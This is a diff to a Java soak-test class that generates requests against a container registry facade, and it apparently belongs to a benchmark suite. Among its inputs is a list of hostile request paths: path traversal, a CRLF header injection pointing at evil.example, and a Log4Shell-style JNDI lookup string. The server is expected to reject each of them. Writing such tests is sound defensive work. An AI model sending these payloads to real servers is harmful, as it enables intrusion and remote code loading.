@@ -2,6 +2,7 @@ package io.registryfacade.benchmarks.soak;
 
 import static java.nio.charset.StandardCharsets.UTF_8;
 
+import java.util.Base64;
 import java.util.List;
 import java.util.Random;
 
@@ -11,11 +12,11 @@ final class Mix {
             "/v2/redirected/App/manifests/v1",
             "/v2/redirected/_app/manifests/v1",
             "/v2/redirected/a.-b/manifests/v1",
-            "/v2/redirected/app/manifests/-v1",
-            "/v2/redirected/app/manifests/" + "a".repeat(129),
             "/v2/redirected/app/blobs/sha256:abc",
             "/v2/closed/" + "a/".repeat(200) + "a/manifests/v1",
             "/v2/closed/app/tags/list?n=-1");
+    private static final List<String> BAD_TAGS =
+            List.of("/v2/redirected/app/manifests/-v1", "/v2/redirected/app/manifests/" + "a".repeat(129));
     private static final List<String> HOSTILE = List.of(
             "/v2/redirected/../other/manifests/v1",
             "/v2/redirected/%2e%2e/other/manifests/v1",
@@ -30,7 +31,6 @@ final class Mix {
             "/v2/redirected/app/manifests/v1%0aLocation:%20https://evil.example",
             "/v2/redirected/app/manifests/${jndi:ldap://evil.example/a}",
             "/v2/https://evil.example/manifests/v1");
-    private static final String WRONG_PASSWORD = "Basic c29hazp3cm9uZw==";
     private static final String BAD_REQUEST = "GET /v2/redirected/app/mani";
 
     private final Random chance;
@@ -67,16 +67,18 @@ final class Mix {
             case LAYER_THAT_BREAKS_OFF ->
                 layer(Stock.BROKEN_LAYER_DIGEST, Expectation.status(200).cutShort());
             case TOKEN_OF_AN_ACCOUNT -> token(StandIn.BASIC, 200);
-            case TOKEN_FOR_A_WRONG_PASSWORD -> token(WRONG_PASSWORD, 401);
+            case TOKEN_FOR_A_WRONG_PASSWORD -> token(wrongPassword(), 401);
             case PULL_WITH_A_TOKEN -> withToken(anyImage());
             case PULL_WITHOUT_A_TOKEN -> withoutToken();
             case NOT_SERVED -> get("/v2/other/app/manifests/v1", Expectation.status(403));
-            case BAD_NAME -> get(one(BAD_NAMES), Expectation.status(400));
+            case BAD_NAME -> badName();
             case WRONG_METHOD -> wrongMethod();
             case HOSTILE_TARGET -> get(one(HOSTILE), Expectation.status(400));
             case OTHER_HOST ->
                 new Asked(wire("GET", "/v2/redirected/app/manifests/v1", "evil.example", ""), Expectation.status(421));
-            case AT_THE_FAULTY_REGISTRY -> atTheFaultyRegistry();
+            case AT_THE_FAULTY_REGISTRY -> lookUp("faulty");
+            case AT_THE_REGISTRY_OF_DYING_CONNECTIONS -> lookUp("dying");
+            case READING_SLOWLY -> layer(Stock.LONG_LAYER_DIGEST, Expectation.body(Stock.LONG_LAYER_DIGEST));
             case LEAVING_IN_A_LAYER ->
                 layer(Stock.LONG_LAYER_DIGEST, Expectation.status(200).cutShort());
             case LEAVING_IN_A_HEAD -> new Asked(BAD_REQUEST, Expectation.status(0));
@@ -126,6 +128,18 @@ final class Mix {
                 wire("GET", path, host, "Authorization: " + authorization + "\r\n"), Expectation.status(status));
     }
 
+    /** Of another user each time, because a user's wrong passwords are limited. */
+    private String wrongPassword() {
+        String login = "user-" + chance.nextLong() + ":wrong";
+        return "Basic " + Base64.getEncoder().encodeToString(login.getBytes(UTF_8));
+    }
+
+    private Asked badName() {
+        return chance.nextInt(4) == 0
+                ? get(one(BAD_TAGS), Expectation.status(404))
+                : get(one(BAD_NAMES), Expectation.status(400));
+    }
+
     private Asked withToken(int image) {
         String token = "Authorization: Bearer " + Grants.token(Grants.scope("my-org/app")) + "\r\n";
         return new Asked(
@@ -149,14 +163,14 @@ final class Mix {
     }
 
     /** What is never at hand, because it has to be looked up each time. */
-    private Asked atTheFaultyRegistry() {
+    private Asked lookUp(String route) {
         int image = anyImage();
         return chance.nextBoolean()
                 ? get(
-                        "/v2/faulty/app/tags/list",
+                        "/v2/" + route + "/app/tags/list",
                         Expectation.body(
-                                Stock.digest(Stock.tagList("faulty/app").getBytes(UTF_8))))
-                : get("/v2/faulty/app/manifests/" + Stock.tag(image), Expectation.body(Stock.digest(image)));
+                                Stock.digest(Stock.tagList(route + "/app").getBytes(UTF_8))))
+                : get("/v2/" + route + "/app/manifests/" + Stock.tag(image), Expectation.body(Stock.digest(image)));
     }
 
     private Asked leaving() {
